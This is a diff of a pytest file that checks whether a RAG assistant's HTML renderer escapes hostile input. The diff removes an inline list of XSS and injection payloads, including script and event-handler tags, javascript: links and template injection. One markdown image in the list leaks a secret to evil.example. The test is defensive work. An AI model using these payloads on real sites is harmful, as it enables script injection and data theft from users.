@@ -9,27 +9,12 @@ import pytest
 
 from rag import Assistant
 from rag.types import Answer, Citation, Document, Notice, Sentence
+from tests.hostile import HOSTILE
 from ui.conversation import Conversation, Exchange
 from ui.render import conversation_html
 from ui.sources import panel_html, reader_html
 from ui.text import attribute, escape
 
-HOSTILE = [
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "![leak](http://evil.example/?q=secret)",
-    "[click](javascript:alert(1))",
-    "[ref]: http://evil.example 'x'",
-    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
-    "<form action=http://evil.example><input></form>",
-    "<svg/onload=alert(1)>",
-    "<style>@import 'http://evil.example/x.css'</style>",
-    "</blockquote></details><iframe src=//evil.example></iframe>",
-    "\n\n# heading\n\n* item\n\n`code` $x$ ~~gone~~ https://evil.example",
-    '" onmouseover="alert(1)',
-    "{{constructor.constructor('alert(1)')()}} ${alert(1)}",
-    "&lt;script&gt; &#60;b&#62;",
-]
 OURS = set(
     "article div span a q small h2 h3 section details summary p blockquote mark b br button form label input textarea"
     " dialog header".split()
@@ -87,7 +72,8 @@ def test_hostile_words_stay_words(words: str) -> None:
         for _, attributes in reader.tags:
             assert {a for a in attributes if not a.startswith(("data-", "aria-"))} <= ATTRIBUTES
             assert (attributes.get("href") or "#").startswith("#")
-        assert words.replace("\n", "") in reader.text
+        seen = "".join(c for c in words if c not in "\n\r\x1b\x07\u202e\u202c\u2066\u2069\u200b")
+        assert seen in reader.text
 
 
 def test_escape() -> None:
